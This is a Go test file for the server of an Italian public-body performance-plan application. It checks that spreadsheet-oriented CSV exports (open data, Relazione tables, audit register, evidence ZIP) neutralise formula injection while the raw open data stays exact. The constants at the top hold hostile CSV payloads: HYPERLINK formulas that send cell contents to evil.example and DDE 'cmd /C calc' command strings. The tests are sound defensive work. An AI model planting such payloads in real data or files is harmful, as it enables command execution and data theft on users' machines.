package server_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/piao-performance/piao/internal/auth"
	"github.com/piao-performance/piao/internal/csvsafe"
	"github.com/piao-performance/piao/internal/model"
	"github.com/piao-performance/piao/internal/seed"
	"github.com/piao-performance/piao/internal/server"
	"github.com/piao-performance/piao/internal/store"
	"github.com/piao-performance/piao/internal/testdb"
)

// Hostile texts a spreadsheet would run as formulas.
const (
	injTitle  = `=HYPERLINK("http://evil.example/?"&A1,"Apri")`
	injName   = "+1+cmd|' /C calc'!A0"
	injSource = "-cmd|' /C calc'!A0"
	injAlgo   = "@SUM(1+1)*cmd|' /C calc'!A0"
	injTab    = "\t=1+1"
	injCR     = "\r=1+1"
	injNote   = `=HYPERLINK("http://evil.example/nota","nota")`
)

// italianNumber is a number as the human CSVs write it (decimal comma).
var italianNumber = regexp.MustCompile(`^-?[0-9]+(,[0-9]+)?$`)

// readSheetCSV parses a CSV made for spreadsheets (BOM, semicolons).
func readSheetCSV(t *testing.T, name string, b []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(b, []byte("\ufeff")) {
		t.Fatalf("%s: no BOM: %.40q", name, b)
	}
	r := csv.NewReader(bytes.NewReader(b[3:]))
	r.Comma = ';'
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return recs
}

// neutral checks that no cell of a spreadsheet CSV would start a formula,
// numbers apart, and returns the cells joined for searching.
func neutral(t *testing.T, name string, recs [][]string) string {
	t.Helper()
	var all []string
	for i, rec := range recs {
		for _, c := range rec {
			if csvsafe.Risky(c) && !italianNumber.MatchString(c) {
				t.Errorf("%s row %d: cell %q would run as a formula", name, i+1, c)
			}
			all = append(all, c)
		}
	}
	return strings.Join(all, "\x1f")
}

// unzipCSVs returns the CSV files of a ZIP.
func unzipCSVs(t *testing.T, b []byte) map[string][]byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for _, f := range zr.File {
		if !strings.HasSuffix(f.Name, ".csv") {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		out[f.Name], _ = io.ReadAll(rc)
		rc.Close()
	}
	return out
}

// TestCSVFormulaInjection: plan texts and a measurement note that begin
// with =, +, -, @, tab or CR come out exact in the raw open data, with a
// leading apostrophe in every CSV made for spreadsheets (the open data's
// spreadsheet twin, the Relazione tables and their ZIP, the audit register,
// the evidence pack), and negative numbers stay numbers everywhere.
func TestCSVFormulaInjection(t *testing.T) {
	t.Parallel()
	pool := testdb.Pool(t)
	st := store.New(pool)
	ctx := context.Background()
	doc, err := seed.Reference()
	if err != nil {
		t.Fatal(err)
	}
	var negKey string
	for i := range doc.Objectives {
		o := &doc.Objectives[i]
		if o.Code != "O.3.3.1" {
			continue
		}
		o.Title = injTitle
		ins := o.Indicators
		ins[0].Name, ins[0].Source, ins[0].Algorithm = injName, injSource, injAlgo
		ins[1].Name, ins[2].Name = injTab, injCR
		v := -12.67
		ins[1].Targets[0].Value, ins[1].Targets[0].Text, ins[1].Targets[0].Operator = &v, "≥ -12,67", ">="
		negKey = ins[1].Key
	}
	if negKey == "" {
		t.Fatal("O.3.3.1 not in the reference plan")
	}
	if _, err := st.LoadPlan(ctx, doc, store.LoadOptions{Actor: "test"}); err != nil {
		t.Fatal(err)
	}
	addUser(t, pool, "admin", auth.Admin, "")
	addUser(t, pool, "referente", auth.Referente, "dir-prm")
	sessions, stop := server.NewSessions(pool, server.SessionOptions{})
	t.Cleanup(stop)
	srv := httptest.NewServer(server.New(st, sessions, slog.New(slog.NewTextHandler(io.Discard, nil))))
	defer srv.Close()
	admin, ref := client(t), client(t)
	signIn(t, admin, srv.URL, "admin", testPassword)
	signIn(t, ref, srv.URL, "referente", testPassword)
	if res, _ := postMultipart(t, ref, srv.URL+entryPath+period, map[string]string{"valore": "-5", "versione": "0", "azione": "salva",
		"nota": injNote}, nil); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("saving the measurement: %d", res.StatusCode)
	}

	// the raw open data keeps every value exact, for programs
	const od = "/opendata/cciaa-gran-sasso/piao-2023-2025/"
	res, body := fetch(t, client(t), srv.URL+od+"indicators.csv")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("indicators.csv: %d", res.StatusCode)
	}
	raw, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(raw[0], model.OpenDataColumns()) {
		t.Fatalf("indicators.csv header changed: %q", raw[0])
	}
	rawAll := strings.Join(slices.Concat(raw...), "\x1f")
	// encoding/csv with CRLF line ends drops a lone CR inside a field: the
	// CR case is checked without it (its apostrophe still comes first)
	crOut := strings.ReplaceAll(injCR, "\r", "")
	for _, s := range []string{injTitle, injName, injSource, injAlgo, injTab, crOut, "-12.67"} {
		if !strings.Contains("\x1f"+rawAll+"\x1f", "\x1f"+s+"\x1f") {
			t.Errorf("indicators.csv: %q not kept exact", s)
		}
	}

	// its spreadsheet twin: same columns (Italian headers) and rows, formulas neutralised, numbers numbers
	res, body = fetch(t, client(t), srv.URL+od+"indicators-excel.csv")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("indicators-excel.csv: %d", res.StatusCode)
	}
	excel := readSheetCSV(t, "indicators-excel.csv", []byte(body))
	if !slices.Equal(excel[0], model.OpenDataLabels()) || len(excel) != len(raw) {
		t.Fatalf("indicators-excel.csv: header %q, %d rows for %d", excel[0], len(excel), len(raw))
	}
	cells := "\x1f" + neutral(t, "indicators-excel.csv", excel) + "\x1f"
	for _, s := range []string{injTitle, injName, injSource, injAlgo, injTab, crOut} {
		if !strings.Contains(cells, "\x1f'"+s+"\x1f") {
			t.Errorf("indicators-excel.csv: %q not neutralised", s)
		}
	}
	if !strings.Contains(cells, "\x1f-12,67\x1f") {
		t.Error("indicators-excel.csv: the negative target is not a plain number -12,67")
	}

	// every CSV of the Relazione, alone and in its ZIP
	rel := srv.URL + refPlan + "/relazione/2023/"
	res, body = fetch(t, admin, rel+"relazione-csv.zip")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("relazione-csv.zip: %d", res.StatusCode)
	}
	var relAll strings.Builder
	files := unzipCSVs(t, []byte(body))
	for name, b := range files {
		relAll.WriteString(neutral(t, "relazione-csv.zip/"+name, readSheetCSV(t, name, b)))
		if name == "albero.csv" {
			continue
		}
		res, one := fetch(t, admin, rel+name)
		if res.StatusCode != http.StatusOK {
			t.Errorf("%s: %d", name, res.StatusCode)
			continue
		}
		neutral(t, name, readSheetCSV(t, name, []byte(one)))
	}
	if len(files) == 0 || !strings.Contains(relAll.String(), "'"+injTitle) {
		t.Errorf("the Relazione's CSVs (%d) do not hold the neutralised objective title", len(files))
	}

	// the audit register holds the note as the reason of the change
	res, body = fetch(t, admin, srv.URL+refPlan+"/registro/registro-audit.csv")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("registro-audit.csv: %d", res.StatusCode)
	}
	if !strings.Contains(neutral(t, "registro-audit.csv", readSheetCSV(t, "registro-audit.csv", []byte(body))), "'"+injNote) {
		t.Error("registro-audit.csv: the note is not there, neutralised")
	}

	// the evidence pack's sheets
	res, body = fetch(t, admin, srv.URL+refPlan+"/obiettivi/O.3.3.1/evidenze.zip")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("evidenze.zip: %d", res.StatusCode)
	}
	var packAll strings.Builder
	for name, b := range unzipCSVs(t, []byte(body)) {
		packAll.WriteString(neutral(t, "evidenze.zip/"+name, readSheetCSV(t, name, b)))
	}
	for _, s := range []string{injTitle, injNote} {
		if !strings.Contains(packAll.String(), "'"+s) {
			t.Errorf("evidenze.zip: %q not there, neutralised", s)
		}
	}
}
